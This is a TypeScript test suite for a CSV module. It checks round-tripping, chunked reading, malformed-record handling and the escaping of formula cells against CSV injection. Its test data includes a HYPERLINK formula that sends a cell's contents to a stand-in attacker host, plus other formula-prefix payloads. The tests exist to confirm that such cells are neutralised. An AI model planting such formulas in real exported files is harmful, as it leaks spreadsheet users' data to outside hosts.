/**
 * The project's one CSV module (src/csv/): what the writer writes, the reader reads back equal,
 * whatever the cells hold (quotes, commas, line breaks, formula prefixes) and however the bytes are
 * cut into chunks; and both agree with an independent implementation (csv-parse / csv-stringify).
 */
import { parse as csvParse } from 'csv-parse/sync';
import { stringify as csvStringify } from 'csv-stringify/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { neutraliseFormula, restoreFormula } from '../../src/csv/formula.js';
import { type CsvRecord, CsvReader, parseCsv } from '../../src/csv/read.js';
import { csvCell, csvRecord, csvText } from '../../src/csv/write.js';

/** Text made of the characters CSV and spreadsheets treat specially, and some that they do not. */
const nastyText = fc.oneof(
  fc.string({
    unit: fc.constantFrom('"', ',', '\n', '\r', '\r\n', "'", '=', '+', '-', '@', '\t', ' ', 'a', '1', '中', '医'),
    maxLength: 12,
  }),
  fc.string({ unit: 'grapheme', maxLength: 12 }),
  fc.constantFrom(
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '+1+1',
    '-2+3',
    '@SUM(1+1)',
    "'=1",
    "''",
    "'",
    'true',
    '',
  ),
);
const recordsArb = fc.array(fc.array(nastyText, { minLength: 1, maxLength: 6 }), { minLength: 1, maxLength: 8 });
const cellsOf = (rs: CsvRecord[]) => rs.map((r) => ('cells' in r ? r.cells : r.problem));

describe('the CSV writer and reader', () => {
  it('read back every record written, cell for cell', () => {
    fc.assert(
      fc.property(recordsArb, (records) => {
        expect(cellsOf(parseCsv(csvText(records[0]!, records.slice(1))))).toEqual(records);
      }),
      { numRuns: 2000 },
    );
  });

  it('read the same records whatever the chunks the bytes arrive in', () => {
    fc.assert(
      fc.property(recordsArb, fc.array(fc.nat(), { maxLength: 6 }), (records, cuts) => {
        const bytes = Buffer.from(csvText(records[0]!, records.slice(1)));
        const at = [...new Set(cuts.map((c) => c % (bytes.length + 1)))].sort((a, b) => a - b);
        const reader = new CsvReader(1 << 20);
        const got: CsvRecord[] = [];
        let from = 0;
        for (const to of [...at, bytes.length]) {
          // A copy per chunk, overwritten afterwards: the reader must not keep the caller's buffer.
          const chunk = Buffer.from(bytes.subarray(from, to));
          got.push(...reader.push(chunk));
          chunk.fill(0x58);
          from = to;
        }
        got.push(...reader.end());
        expect(got).toEqual(parseCsv(bytes.toString()));
        expect(cellsOf(got)).toEqual(records);
      }),
      { numRuns: 1000 },
    );
  });

  it('write what csv-parse reads as the neutralised cells, and read what csv-stringify writes', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(nastyText, { minLength: 2, maxLength: 5 }), { minLength: 1, maxLength: 6 }),
        fc.constantFrom('unix', 'windows') as fc.Arbitrary<'unix' | 'windows'>,
        (records, eol) => {
          const ours = records.map((r) => `${csvRecord(r)}\r\n`).join('');
          expect(csvParse(ours, { relax_column_count: true, record_delimiter: ['\r\n'] })).toEqual(
            records.map((r) => r.map(neutraliseFormula)),
          );
          // csv-stringify quotes a cell only for the record delimiter it writes: a lone LF or CR in
          // a cell would then be read as a line end by any reader that accepts both, so ask for it.
          const theirs = csvStringify(records, { record_delimiter: eol, quoted_match: /[\r\n]/ });
          expect(cellsOf(parseCsv(theirs))).toEqual(records.map((r) => r.map(restoreFormula)));
        },
      ),
      { numRuns: 1000 },
    );
  });
});

describe('formula cells (CSV injection)', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(1+1)', "'@SUM(1+1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
    ["'=1", "''=1"],
    ['-12', "'-12"],
    ['C-12', 'C-12'],
    ['1234.50', '1234.50'],
  ])('a cell %j is written %j, and reads back as it was', (value, written) => {
    expect(csvCell(value)).toBe(written);
    expect(cellsOf(parseCsv(`${written}\r\n`))).toEqual([[value]]);
  });

  it('neutralising and restoring are inverse for every string', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme' }), nastyText, (a, b) => {
        expect(restoreFormula(neutraliseFormula(a))).toBe(a);
        expect(restoreFormula(neutraliseFormula(b))).toBe(b);
      }),
    );
  });

  it("a cell written by someone else keeps its ' unless a formula character or another ' follows it", () => {
    expect(cellsOf(parseCsv("'abc,'+1,''x\n"))).toEqual([["'abc", '+1', "'x"]]);
  });
});

describe('the reader', () => {
  it.each([
    [
      'a quoted cell holds commas, quotes and line breaks',
      'a,"b,""c""\r\nd"\r\ne,f\n',
      [
        ['a', 'b,"c"\r\nd'],
        ['e', 'f'],
      ],
      [1, 3],
    ],
    [
      'LF and CRLF line ends, no line end at the end',
      'a,b\nc,d\r\ne,f',
      [
        ['a', 'b'],
        ['c', 'd'],
        ['e', 'f'],
      ],
      [1, 2, 3],
    ],
    [
      'blank lines (empty or spaces and tabs) are skipped, line numbers kept',
      'a\n\n \t\r\nb\n',
      [['a'], ['b']],
      [1, 4],
    ],
    ['empty cells are empty strings', ',,\n', [['', '', '']], [1]],
    ['a quoted empty cell alone is a record, not a blank line', '""\n', [['']], [1]],
  ])('%s', (_, text, cells, lines) => {
    const rs = parseCsv(text);
    expect(cellsOf(rs)).toEqual(cells);
    expect(rs.map((r) => r.line)).toEqual(lines);
  });

  it.each([
    ['a quote inside a cell that is not quoted', 'id\nab"c"d\n', 'cell 1: a quote inside a cell that is not quoted'],
    [
      'a single stray quote (it opens a cell that never closes)',
      'id\nab"c\nd\n',
      'a quoted cell is not closed before the end of the input',
    ],
    ['text after a closing quote', 'id\n"ab"c,d\n', 'cell 1: text after the closing quote'],
    [
      'a quote left open at the end of the input',
      'id\n"abc\ndef\n',
      'a quoted cell is not closed before the end of the input',
    ],
  ])('refuses %s, with the line the record starts on', (_, text, detail) => {
    const rs = parseCsv(text);
    expect(rs[0]).toEqual({ line: 1, cells: ['id'] });
    expect(rs[1]).toEqual({
      line: 2,
      problem: { kind: 'malformed', detail: expect.stringContaining(detail), zh: expect.any(String) },
    });
  });

  it('reports a record beyond the limit without holding it, and reads on', () => {
    const long = 'x'.repeat(5000);
    expect(parseCsv(`a\n"${long}\n${long}"\nb\n`, 4096)).toEqual([
      { line: 1, cells: ['a'] },
      { line: 2, problem: { kind: 'too_long', bytes: 10_003 } },
      { line: 4, cells: ['b'] },
    ]);
  });

  it('reports a record that is not UTF-8, and reads on', () => {
    const reader = new CsvReader(1 << 20);
    const rs = [
      ...reader.push(Buffer.concat([Buffer.from('a\n'), Buffer.from([0xff, 0x0a]), Buffer.from('b\n')])),
      ...reader.end(),
    ];
    expect(rs).toEqual([
      { line: 1, cells: ['a'] },
      { line: 2, problem: { kind: 'invalid_utf8' } },
      { line: 3, cells: ['b'] },
    ]);
  });
});
